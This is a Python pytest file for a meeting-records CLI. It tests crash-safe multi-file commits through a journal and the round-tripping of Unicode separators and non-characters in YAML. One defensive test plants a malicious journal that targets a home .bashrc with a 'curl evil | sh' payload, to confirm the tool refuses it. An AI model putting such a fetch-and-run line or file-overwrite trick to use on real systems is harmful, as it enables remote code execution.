"""Writes that nothing can break: all-or-nothing multi-file commands, a journal only for the records,
and every character YAML can hold (issue 12, cases 3 and 8).

* ``actions raise`` killed between its two renames left the action written and the decision's
  ``action:`` link not; the next ``actions raise`` raised a duplicate. The commit journal now
  completes it on the next command, and a journal naming files outside the records is never obeyed.
* U+2028, U+2029 or U+0085 in a string (pasted web text, ``--note``) made ``fmt`` and every write
  to that file fail; U+FFFE in a block string passed validate, then ``actions update`` on another
  entry exited 3. The property tests below go over all of Unicode's line and paragraph separators
  and non-characters.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from conftest import MINI, trials
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st


def parse(text: str):
    """What a YAML reader (libyaml, as cspkit and most tools use) reads in ``text``."""
    import yaml

    return yaml.load(text, Loader=getattr(yaml, "CSafeLoader", yaml.SafeLoader))

ACTIONS = "records/actions/2023-07-13.yaml"
HELD = "records/meetings/2023-07-13.yaml"

#: Every character Unicode or YAML treats as a line or paragraph break, besides LF.
SEPARATORS = ["\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
#: Unicode's 66 non-characters: U+FDD0..U+FDEF and the last two code points of every plane.
NONCHARACTERS = [chr(c) for c in range(0xFDD0, 0xFDF0)] + [chr(p * 0x10000 + x) for p in range(17)
                                                          for x in (0xFFFE, 0xFFFF)]
EVERY = SEPARATORS + NONCHARACTERS


def double_quoted(text: str) -> str:
    """``text`` as a YAML double-quoted scalar, every character outside printable ASCII escaped."""
    out = []
    for ch in text:
        o = ord(ch)
        if ch in '\\"':
            out.append("\\" + ch)
        elif 0x20 <= o < 0x7F:
            out.append(ch)
        else:
            out.append(f"\\u{o:04X}" if o <= 0xFFFF else f"\\U{o:08X}")
    return '"' + "".join(out) + '"'



# --------------------------------------------------------------------------- the journal


def _second_decision(root: Path) -> None:
    held = root / HELD
    held.write_text(held.read_text(encoding="utf-8") + "      - text: the patrol rota be published\n"
                    "        owners: [carol-white]\n", encoding="utf-8")


@pytest.mark.parametrize("killed_at", [1, 2], ids=["before-the-first-rename", "between-the-renames"])
def test_actions_raise_killed_mid_commit_is_completed_and_never_duplicated(mini, cli, killed_at):
    _second_decision(mini)
    script = textwrap.dedent(f"""
        import os, signal
        from cspkit import fileio
        calls = []
        def kill(path):
            calls.append(path)
            if len(calls) == {killed_at}:
                os.kill(os.getpid(), signal.SIGKILL)
        fileio._before_replace = kill
        from cspkit.cli import main
        main(["--repo", {str(mini)!r}, "actions", "raise", "2023-07-13"])
    """)
    proc = subprocess.run([sys.executable, "-c", script], cwd=mini, capture_output=True, text=True,
                          env={**os.environ, "CSPKIT_CACHE": "0"})
    assert proc.returncode == -signal.SIGKILL
    actions = (mini / ACTIONS).read_text(encoding="utf-8")
    assert ("2023-07-13/3.2" in actions) is (killed_at == 2)  # killed where it was meant to be
    assert "action: 2023-07-13/3.2" not in (mini / HELD).read_text(encoding="utf-8")

    r = cli("--repo", mini, "actions", "raise", "2023-07-13")
    shown = "records/actions/2023-07-13.yaml, records/meetings/2023-07-13.yaml" if killed_at == 1 else \
        "records/meetings/2023-07-13.yaml"
    assert (r.code, r.out, r.err) == (0, "No decisions with owners are waiting for an action.\n",
                                      f"note: completed a change that was interrupted: wrote {shown}\n")
    data = parse((mini / ACTIONS).read_text(encoding="utf-8"))
    assert [a["id"] for a in data["actions"]] == ["2023-07-13/3.1", "2023-07-13/3.2"]
    assert "      action: 2023-07-13/3.2\n" in (mini / HELD).read_text(encoding="utf-8")
    assert cli("--repo", mini, "validate").code == 0
    assert not list(mini.rglob("*.tmp"))


def test_a_journal_naming_files_outside_the_records_is_never_obeyed(mini, cli, tmp_path):
    """A journal is local state, but a repository can carry one: it must not write anywhere."""
    victim = tmp_path / "home" / ".bashrc"
    victim.parent.mkdir()
    payload = victim.parent / ".bashrc.x.tmp"
    payload.write_text("curl evil | sh\n", encoding="utf-8")
    cache = mini / ".cspkit-cache"
    cache.mkdir()
    (cache / "journal.json").write_text(json.dumps({"files": [
        {"path": str(victim), "temporary": str(payload), "old": None, "new": "0" * 64}]}), encoding="utf-8")
    r = cli("--repo", mini, "validate")
    assert (r.code, r.err) == (0, "note: a record of an interrupted change that names files outside the records "
                                  "was removed\n")
    assert not victim.exists() and not (cache / "journal.json").exists()


# --------------------------------------------------------------------------- every character


def test_every_separator_and_noncharacter_survives_fmt_and_edits(mini, cli):
    """Case 8, over all of them at once: a file holding each (escaped, the only way YAML can) is
    formatted and edited; each is written back so that it reads back the same."""
    actions = mini / ACTIONS
    text = actions.read_text(encoding="utf-8")
    held = "".join(f"a{ch}b" for ch in EVERY)
    text = text.replace("text: Bring a town centre patrol plan to the next meeting.",
                        f"text: {double_quoted(held)}")
    text += "\n".join([
        "- id: 2023-07-13/3.2", f"  text: {double_quoted('Lines' + chr(10) + held + chr(10) + 'end')}",
        "  owners: [carol-white]", "  status: open", ""])
    actions.write_text(text, encoding="utf-8")
    before = parse(text)
    assert cli("--repo", mini, "validate").code == 0

    r = cli("--repo", mini, "fmt", actions)
    assert (r.code, r.err) == (0, "1 file reformatted (1 checked)\n")
    assert parse(actions.read_text(encoding="utf-8")) == before
    assert cli("--repo", mini, "fmt", "--check", actions).code == 0  # the layout is stable

    note = "Pasted:" + "".join(EVERY) + "end"
    r = cli("--repo", mini, "actions", "update", "2023-07-13/3.2", "--note", note, "--date", "2023-09-01")
    assert (r.code, r.err) == (0, "")
    after = parse(actions.read_text(encoding="utf-8"))
    assert after["actions"][1]["history"] == [{"date": __import__("datetime").date(2023, 9, 1), "note": note}]
    assert after["actions"][0] == before["actions"][0]
    r = cli("--repo", mini, "actions", "update", "2023-07-13/3.1", "--note", f"x{chr(0x2028)}y", "--date",
            "2023-09-02")
    assert r.code == 0
    assert cli("--repo", mini, "validate").code == 0


def test_a_noncharacter_in_text_of_several_lines_blocks_no_edit_of_another_entry(mini, cli):
    """Case 8 as it was found: U+FFFE in text of several lines validated; updating another entry of
    the file then wrote it back raw into a block (which no YAML reader accepts) and exited 3."""
    actions = mini / ACTIONS
    actions.write_text(actions.read_text(encoding="utf-8").replace(
        "text: Bring a town centre patrol plan to the next meeting.",
        'text: "Bring a town centre\\npatrol \\uFFFE plan."') + "- id: 2023-07-13/3.2\n  text: Publish the rota.\n"
        "  owners: [carol-white]\n  status: open\n", encoding="utf-8")
    before = parse(actions.read_text(encoding="utf-8"))["actions"][0]
    assert before["text"] == "Bring a town centre\npatrol \ufffe plan."
    assert cli("--repo", mini, "validate").code == 0
    r = cli("--repo", mini, "actions", "update", "2023-07-13/3.2", "--note", "Rota published.", "--date", "2023-09-01")
    assert (r.code, r.err) == (0, "")
    assert parse(actions.read_text(encoding="utf-8"))["actions"][0] == before
    r = cli("--repo", mini, "fmt", actions)
    assert r.code == 0 and parse(actions.read_text(encoding="utf-8"))["actions"][0] == before
    assert cli("--repo", mini, "validate").code == 0


@pytest.fixture(scope="module")
def shared(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("chars") / "mini"
    shutil.copytree(MINI, root)
    return root


texts = st.text(alphabet=st.sampled_from(EVERY + list("ab \n\t#:'\"-")), min_size=1, max_size=12)


@settings(max_examples=trials(30), deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(text=texts)
def test_any_mixture_round_trips_through_a_note_and_fmt(shared, cli, text):
    actions = shared / ACTIONS
    r = cli("--repo", shared, "actions", "update", "2023-07-13/3.1", "--note", f"n{text}n", "--date", "2023-09-01")
    assert (r.code, r.err) == (0, "")
    assert parse(actions.read_text(encoding="utf-8"))["actions"][0]["history"][-1]["note"] == f"n{text}n"
    programme = shared / "records/forward-programme.yaml"
    original = programme.read_text(encoding="utf-8")
    try:
        programme.write_text(original.replace("items:\n", f"items:\n# {text!r}\n", 1) +
                             f"- id: extra\n  item: {double_quoted(text)}\n  when: tbc\n", encoding="utf-8")
        before = parse(programme.read_text(encoding="utf-8"))
        r = cli("--repo", shared, "fmt", programme)
        assert r.code == 0, r.err
        assert parse(programme.read_text(encoding="utf-8")) == before
    finally:
        programme.write_text(original, encoding="utf-8")
